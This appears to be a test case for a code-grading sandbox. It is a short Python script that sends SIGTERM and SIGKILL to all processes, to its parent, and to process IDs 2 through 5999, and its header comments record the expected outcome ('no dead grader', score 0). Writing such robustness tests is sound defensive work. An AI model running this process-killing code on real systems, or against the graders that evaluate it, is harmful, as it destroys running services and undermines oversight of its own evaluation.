# Sends SIGKILL to everybody, to each number, and to its parent.
# promise: no dead grader
# status: graded
# score: 0
# prints: tried
# dangerous: yes
# %% last
import os
import signal

print("tried")
for number in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
    for pid in [os.getppid(), *range(2, 6000)]:
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, number)
        except OSError:
            pass
